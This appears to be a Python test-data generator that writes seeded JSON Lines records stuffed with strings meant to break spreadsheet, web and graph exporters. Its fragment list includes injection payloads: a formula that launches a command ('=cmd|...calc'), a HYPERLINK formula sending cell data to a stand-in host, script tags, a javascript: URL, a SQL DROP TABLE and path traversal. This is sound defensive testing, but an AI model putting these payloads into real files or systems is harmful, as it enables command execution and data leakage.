"""Writes saved records (JSON Lines) whose strings are what a spreadsheet, a page or a graph loader would trip over.

    hostile_records.py COUNT [SEED] > records.jsonl      COUNT facts, 20 to a document; the same seed gives the same bytes
"""
import json
import random
import sys

PIECES = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1)', "@SUM(A1)",
          "\t", "\r", "\n", "\r\n", " ", "　", "\u200b", "\ufeff", ";", ",", "|", '"', '""', "'", "\\", "\x1b[31m", "\x01", "\x07",
          "\x7f", "\u0085", "\u202e", "\u2066", "\u200f", "\u2028", "<script>alert(1)</script>", "</script>", "<!--", "&amp;", "]]>",
          "_x0000_", "{", "}", "$", "`", "#", "https://", "file:///", "\U00020000", "\U0001f600", "e\u0301", "1", "-5.2", "100", "出口额",
          "增长", "亿元", "%", "%s%n", "../", "NUL", "1e5", "TRUE", "NULL", "DROP TABLE facts;--", "^", "~"]


def text(r):
    return "".join(r.choice(PIECES) for _ in range(r.randint(1, 6)))


def maybe(r, value):
    return value if r.random() < 0.8 else None


def number(r):
    kind = r.randint(0, 4)
    if kind == 0:
        return str(r.randint(-99, 99))
    if kind == 1:
        return "%d.%02d" % (r.randint(0, 10**6), r.randint(0, 99))
    if kind == 2:
        return str(r.randint(10**15, 10**24))
    if kind == 3:
        return "-" + str(r.randint(10**15, 10**24))
    return text(r)  # no writer may trust that it is a number


def figure(r):
    return {"kind": maybe(r, text(r)), "number": maybe(r, number(r)), "low": maybe(r, number(r)), "high": None, "fraction": None,
            "comparator": "eq", "cue": maybe(r, text(r)), "unit": {"kind": "money", "code": maybe(r, text(r)), "text": maybe(r, text(r))},
            "candidates": [text(r)] if r.random() < 0.3 else None, "object": maybe(r, text(r)), "significant_digits": 2}


def date(r):
    known = r.random() < 0.7
    return {"edtf": text(r) if known else None, "start": r.choice(["2024-02-29", "0044-03-15", text(r)]) if known else None,
            "end": "2024-12-31" if known else None, "grain": "year" if known else None, "relative": True, "anchor": None, "mod": None,
            "zone": None}


def document(r, number_of_document, facts, out):
    doc = "d%d%s" % (number_of_document, text(r))

    def write(record, **members):
        out.write(json.dumps({"record": record, "doc": doc, **members}, ensure_ascii=r.random() < 0.5) + "\n")

    url = r.choice([None, "https://example.org/" + text(r), "javascript:alert(1)", "internal:Sheet1!A1", text(r)])
    write("document", source={"path": text(r), "url": url, "sha256": "%064x" % r.getrandbits(256), "encoding": "utf-8", "bytes": 9},
          reference_date=None, model="0123456789abcdef", articles=[])
    prefix, entity = "%08x" % number_of_document, "org:" + text(r) + str(number_of_document)
    values = []
    for i in range(facts):
        value = text(r)
        values.append(figure(r))
        write("mention", id="m%s%08x" % (prefix, i), type="FIGURE", text=value, norm=value,
              span={"cp": [i, i + 1], "utf8": [i, i + 1], "source": [i, i + 1], "line": 1, "column": i + 1}, sentence={"cp": [0, facts]},
              value=values[-1], entity=None, parent=None, rule="r." + text(r), confidence=0.75)
    write("mention", id="m%sdate" % prefix, type="DATE", text=text(r), norm=text(r),
          span={"cp": [facts, facts + 1], "utf8": [facts, facts + 1], "source": [facts, facts + 1], "line": 1, "column": 1},
          sentence={"cp": [0, facts]}, value=date(r), entity=None, parent=None, rule="r", confidence=1)
    write("mention", id="m%sorg" % prefix, type="ORG", text=text(r), norm=text(r),
          span={"cp": [facts + 1, facts + 2], "utf8": [facts + 1, facts + 2], "source": [facts + 1, facts + 2], "line": 1, "column": 1},
          sentence={"cp": [0, facts]}, value={"name": text(r), "kind": None}, entity=entity, parent=None, rule="r", confidence=1)
    write("entity", id=entity, type="ORG", name=text(r), names=[text(r), text(r)], mentions=["m%sorg" % prefix],
          links={"iso": None, "wikidata": maybe(r, text(r))})
    write("relation", relation="holds_post", person=entity, title=maybe(r, text(r)), of=maybe(r, text(r)), of_text=maybe(r, text(r)),
          former=False, mentions=["m%sorg" % prefix], sentence={"cp": [0, facts]}, rule="r")
    for i in range(facts):
        timed = r.random() < 0.5
        write("fact", id="f%s%08x" % (prefix, i), metric=maybe(r, text(r)), subject=[entity, text(r)][:r.randint(0, 2)],
              topic=maybe(r, text(r)), figure="m%s%08x" % (prefix, i), value=values[i],
              time_mention="m%sdate" % prefix if timed else None, time=date(random.Random(1)), change=maybe(r, "increase"),
              **{"from": None}, base=None, status="stated", attribution=maybe(r, entity), attribution_text=maybe(r, text(r)),
              sentence={"cp": [0, facts], "text": maybe(r, text(r) + text(r))}, rule="r." + text(r), confidence=0.5)
    write("warning", kind="change_disagrees", message=text(r), facts=["f%s%08x" % (prefix, 0)], sentence={"cp": [0, facts]})


def main():
    count, seed = int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1
    r = random.Random(seed)
    with open(sys.stdout.fileno(), "w", encoding="utf-8", newline="\n", closefd=False) as out:
        for i in range(0, count, 20):
            document(r, i // 20, min(20, count - i), out)


main()
